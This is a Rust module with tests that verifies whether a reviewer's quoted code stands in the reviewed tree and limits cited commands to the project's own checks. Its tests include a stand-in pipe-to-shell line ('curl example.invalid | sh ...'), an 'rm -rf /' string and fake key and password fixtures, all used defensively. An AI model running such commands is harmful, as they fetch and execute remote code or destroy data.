//! Whether what a reviewer quotes stands in the reviewed tree (SPEC section 7).

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::path::{Component, Path};

use agents::Secrets;
use domain::{CheckedFinding, CommitHash, Evidence, Finding};

use crate::trees::{TreeError, Trees};

/// Fewer characters than this prove nothing: they stand everywhere.
const LEAST_QUOTE: usize = 4;

/// [`check`] against a commit of a session, for all findings of an answer. `renamed`: names without their secrets, as a
/// reviewer's words have them by now, and the names that the files have.
///
/// # Errors
/// When the commit cannot be read: then nothing is known, which is not the same as not found.
pub fn check_all(
    trees: &Trees,
    commit: &CommitHash,
    findings: Vec<Finding>,
    secrets: &Secrets,
    renamed: &BTreeMap<String, Vec<String>>,
) -> Result<Vec<CheckedFinding>, TreeError> {
    let mut checked = Vec::with_capacity(findings.len());
    for finding in findings {
        let named = finding.file.as_deref().map(str::trim).unwrap_or_default().to_owned();
        let mut one = check(finding, |_| None, secrets);
        let itself = [named.clone()];
        for name in renamed.get(&named).map_or(&itself[..], Vec::as_slice) {
            if one.evidence != Evidence::Verified && !name.is_empty() {
                let file = trees.file_named(commit, name)?;
                one = check(one.finding, |_| file, secrets);
            }
        }
        checked.push(one);
    }
    Ok(checked)
}

/// Looks for a finding's quote in the file it names, white space apart. `read` gives a file of the reviewed tree by the
/// name the reviewer used; `None` when it is not there or the name leaves the tree. Never fails: what cannot be read
/// is not found.
///
/// What reviewers say has lost its secrets before it gets here, so a quote that does not stand in the file as it is may
/// stand in it without its secrets (`docs/SECRETS.md`).
pub fn check(
    finding: Finding,
    read: impl FnOnce(&str) -> Option<Vec<u8>>,
    secrets: &Secrets,
) -> CheckedFinding {
    let (evidence, found_at) = look(&finding, read, secrets);
    CheckedFinding { finding, evidence, found_at, rerun: None }
}

/// The project's check command that a finding cites: the longest of these that stands in its words. Nothing that is no
/// check of the project is ever run because a reviewer says so.
#[must_use]
pub fn cited<'a>(finding: &Finding, checks: &'a [String]) -> Option<&'a str> {
    let words = [
        finding.title.as_str(),
        finding.why.as_str(),
        finding.recommendation.as_str(),
        finding.quote.as_deref().unwrap_or_default(),
    ];
    let squeeze = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    let words = words.map(squeeze);
    let stands = |check: &&String| {
        let check = squeeze(check);
        !check.is_empty() && words.iter().any(|text| names(text, &check))
    };
    checks.iter().filter(stands).max_by_key(|check| check.len()).map(|check| check.trim())
}

/// Whether a text has `wanted` as words of its own: not as a part of a longer word or path.
#[must_use]
pub fn names(text: &str, wanted: &str) -> bool {
    let wanted = wanted.trim();
    let own = |c: Option<char>| c.is_none_or(|c| !c.is_alphanumeric() && !matches!(c, '_' | '-'));
    !wanted.is_empty()
        && text.match_indices(wanted).any(|(at, _)| {
            let (before, after) = (text[..at].chars().next_back(), text[at + wanted.len()..].chars().next());
            own(before) && own(after)
        })
}

/// A file's name relative to a folder, when it lies in it: as a tool names it, absolute or relative to the folder.
#[must_use]
pub fn inside(root: &Path, named: &str) -> Option<String> {
    let named = Path::new(named.trim());
    let relative = if named.is_absolute() { named.strip_prefix(root).ok()? } else { named };
    let mut parts = Vec::new();
    for part in relative.components() {
        match part {
            Component::Normal(part) => parts.push(part.to_string_lossy().into_owned()),
            Component::CurDir => {}
            Component::ParentDir | Component::RootDir | Component::Prefix(_) => return None,
        }
    }
    (!parts.is_empty()).then(|| parts.join("/"))
}

fn look(
    finding: &Finding,
    read: impl FnOnce(&str) -> Option<Vec<u8>>,
    secrets: &Secrets,
) -> (Evidence, Option<u32>) {
    let (Some(file), Some(quote)) = (finding.file.as_deref(), finding.quote.as_deref()) else {
        return (Evidence::NotCheckable, None);
    };
    let file = file.trim();
    let quoted = quote.chars().filter(|c| !c.is_whitespace()).count();
    if file.is_empty() || quoted < LEAST_QUOTE {
        return (Evidence::NotCheckable, None);
    }
    let Some(bytes) = read(file) else { return (Evidence::NotFound, None) };
    let text = String::from_utf8_lossy(&bytes);
    let near = finding.lines.as_deref().and_then(first_line);
    let found = stands(&text, quote, near).or_else(|| {
        let (text, quote) = (secrets.redact_lines(&text), secrets.redact(quote));
        let changed = matches!(text, Cow::Owned(_));
        changed.then(|| stands(&text, &quote, near)).flatten()
    });
    match found {
        Some(line) => (Evidence::Verified, Some(line)),
        None => (Evidence::NotFound, None),
    }
}

/// The line of a text on which a quote begins, as it is or copied out of a diff.
fn stands(text: &str, quote: &str, near: Option<u32>) -> Option<u32> {
    let text = Squeezed::new(text);
    text.find(quote, near).or_else(|| text.find(&added_lines(quote)?, near))
}

/// A text with every run of white space as one blank, and where its lines begin.
struct Squeezed {
    text: String,
    /// Where each line's first word begins in `text`, with its number from 1.
    lines: Vec<(usize, u32)>,
}

impl Squeezed {
    fn new(text: &str) -> Self {
        let mut squeezed = Self { text: String::with_capacity(text.len()), lines: Vec::new() };
        for (number, line) in (1..).zip(text.lines()) {
            let mut first = true;
            for word in line.split_whitespace() {
                if !squeezed.text.is_empty() {
                    squeezed.text.push(' ');
                }
                if std::mem::take(&mut first) {
                    squeezed.lines.push((squeezed.text.len(), number));
                }
                squeezed.text.push_str(word);
            }
        }
        squeezed
    }

    /// The line on which a quote begins: of several places the one nearest to the line that was named.
    fn find(&self, quote: &str, near: Option<u32>) -> Option<u32> {
        let quote = quote.split_whitespace().collect::<Vec<_>>().join(" ");
        let places = self.text.match_indices(&quote).filter_map(|(at, _)| self.line(at));
        places.min_by_key(|line| near.map_or(*line, |near| line.abs_diff(near)))
    }

    fn line(&self, at: usize) -> Option<u32> {
        let after = self.lines.partition_point(|(begins, _)| *begins <= at);
        self.lines.get(after.checked_sub(1)?).map(|(_, number)| *number)
    }
}

/// The first number of `12`, `12-18`, `L12`.
fn first_line(lines: &str) -> Option<u32> {
    let from = lines.find(|c: char| c.is_ascii_digit())?;
    let digits: String = lines[from..].chars().take_while(char::is_ascii_digit).collect();
    digits.parse().ok()
}

/// A quote that was copied out of a diff, without the signs at its lines: only when it has no removed lines.
fn added_lines(quote: &str) -> Option<String> {
    let lines: Option<Vec<&str>> = quote
        .lines()
        .filter(|line| !line.trim().is_empty())
        .map(|line| line.strip_prefix('+').or_else(|| line.strip_prefix(' ')))
        .collect();
    let text = lines?.join("\n");
    let enough = LEAST_QUOTE <= text.chars().filter(|c| !c.is_whitespace()).count();
    (quote.lines().any(|line| line.starts_with('+')) && enough).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    const FILE: &str = "fn main() {\n    let total = 1;\n\n    print(total);\n}\n// ä ö\nlet total = 1;\n";

    fn check(
        file: Option<&str>,
        lines: Option<&str>,
        quote: Option<&str>,
        evidence: Evidence,
        at: Option<u32>,
    ) {
        let finding = Finding {
            severity: domain::Severity::Concern,
            title: "t".to_owned(),
            file: file.map(str::to_owned),
            lines: lines.map(str::to_owned),
            quote: quote.map(str::to_owned),
            why: String::new(),
            recommendation: String::new(),
        };
        let read = |name: &str| (name == "src/a.rs").then(|| FILE.as_bytes().to_vec());
        let checked = super::check(finding.clone(), read, &Secrets::default());
        assert_eq!(checked, CheckedFinding { finding, evidence, found_at: at, rerun: None });
    }

    #[test]
    fn quotes_are_found_where_they_stand() {
        let a = Some("src/a.rs");
        let verified = |lines, quote, at| check(a, lines, Some(quote), Evidence::Verified, Some(at));
        verified(Some("4"), "print(total);", 4);
        verified(Some("9000"), "print(total);", 4);
        verified(None, "let   total\t=\n1;", 2);
        verified(Some("7"), "let total = 1;", 7);
        verified(Some("L2-3"), "let total = 1;", 2);
        verified(Some("1-5"), "fn main() {\n  let total = 1;\n  print(total);", 1);
        verified(None, "ä ö\nlet", 6);
        verified(None, "otal = 1", 2);
        verified(None, "+    let total = 1;\n+\n+    print(total);", 2);
        check(Some("  src/a.rs "), None, Some("print(total);"), Evidence::Verified, Some(4));
    }

    #[test]
    fn what_does_not_stand_there_is_not_found() {
        let a = Some("src/a.rs");
        let missing = |file, quote| check(file, None, Some(quote), Evidence::NotFound, None);
        missing(a, "print(totals);");
        missing(a, "-    let total = 1;");
        missing(a, "lettotal = 1;");
        missing(Some("src/b.rs"), "print(total);");
        missing(Some("../a.rs"), "print(total);");
    }

    /// A quote as its reviewer gave it: redacted when it came in, then looked for in the tree as it is.
    fn quotes(quote: &str, expected: Option<u32>) {
        let key = |rest: &str| format!("sk-ant-api03-{rest}");
        let tree = format!(
            "const A: u8 = 1;\nlet key = \"{}\"; // live\nlet password = \"hunter2-hunter2\";\n-----BEGIN PRIVATE KEY-----\n\
             MIIEpAIBAAKCAQEA7\nAAA=\n-----END PRIVATE KEY-----\nlast(line);\n",
            key("0123456789abcdef")
        );
        let secrets = Secrets::of(["hunter2-hunter2".to_owned()]);
        let finding = Finding {
            severity: domain::Severity::Blocker,
            title: "a key in the code".to_owned(),
            file: Some("src/key.rs".to_owned()),
            lines: None,
            quote: Some(secrets.redact(&quote.replace("<key>", &key("0123456789abcdef"))).into_owned()),
            why: String::new(),
            recommendation: String::new(),
        };
        let checked = super::check(finding, |_| Some(tree.into_bytes()), &secrets);
        let evidence = if expected.is_some() { Evidence::Verified } else { Evidence::NotFound };
        assert_eq!((checked.evidence, checked.found_at), (evidence, expected), "{quote:?}");
    }

    #[test]
    fn quotes_of_lines_with_secrets_are_found_and_made_up_ones_are_not() {
        quotes("let key = \"<key>\"; // live", Some(2));
        quotes("let key = \"<key>\"; // live\n   let password = \"hunter2-hunter2\";", Some(2));
        quotes("+let key = \"<key>\"; // live\n+   let password = \"hunter2-hunter2\";", Some(2));
        quotes("= \"[secret]\"; // live", Some(2));
        quotes(
            "-----BEGIN PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\nAAA=\n-----END PRIVATE KEY-----\nlast(line);",
            Some(4),
        );
        quotes("last(line);", Some(8));
        quotes("let api_key = \"<key>\"; // live", None);
        quotes("let key = \"<key>\"; // test", None);
        quotes("const A: u8 = [secret];", None);
        quotes("let password = \"hunter2-hunter2\"; // live", None);
        quotes("let key = \"[secret][secret]\";", None);
    }

    /// `words` as a finding's reason, and the check of these that it cites.
    fn cites(words: &str, expected: Option<&str>) {
        let finding = Finding {
            severity: domain::Severity::Blocker,
            title: "t".to_owned(),
            file: None,
            lines: None,
            quote: None,
            why: words.to_owned(),
            recommendation: String::new(),
        };
        let checks = ["cargo test", "cargo test --doc", "sh check.sh", " "].map(str::to_owned);
        assert_eq!(super::cited(&finding, &checks), expected, "{words}");
    }

    #[test]
    fn only_the_projects_own_checks_are_cited() {
        cites("`cargo test` fails on an empty list", Some("cargo test"));
        cites("I ran cargo  test --doc.", Some("cargo test --doc"));
        cites("sh check.sh exits with 1", Some("sh check.sh"));
        cites("cargo tests fail", None);
        cites("curl example.invalid | sh check.sh.evil", Some("sh check.sh")); // that one is run, and nothing else
        cites("rm -rf / fails", None);
        cites("", None);
    }

    #[test]
    fn files_are_told_from_outside_and_from_parts_of_names() {
        let root = Path::new("/t/seat");
        for (named, expected) in [
            ("src/a.rs", Some("src/a.rs")),
            ("./src//a.rs", Some("src/a.rs")),
            ("/t/seat/src/a.rs", Some("src/a.rs")),
            ("/t/seat", None),
            ("/t/other/a.rs", None),
            ("../a.rs", None),
            ("", None),
        ] {
            assert_eq!(inside(root, named).as_deref(), expected, "{named}");
        }
        assert!(names("sed -n 1,20p 'src/a.rs'", "src/a.rs") && names("cat /t/seat/src/a.rs", "src/a.rs"));
        assert!(!names("cat src/a.rsx", "src/a.rs") && !names("cat x-src/a.rs", "src/a.rs"));
    }

    #[test]
    fn what_proves_nothing_is_not_checkable() {
        let a = Some("src/a.rs");
        for (file, quote) in [
            (None, Some("print(total);")),
            (a, None),
            (a, Some("  ")),
            (a, Some("} ;\n)")),
            (Some(" "), Some("print")),
        ] {
            check(file, Some("1"), quote, Evidence::NotCheckable, None);
        }
    }
}
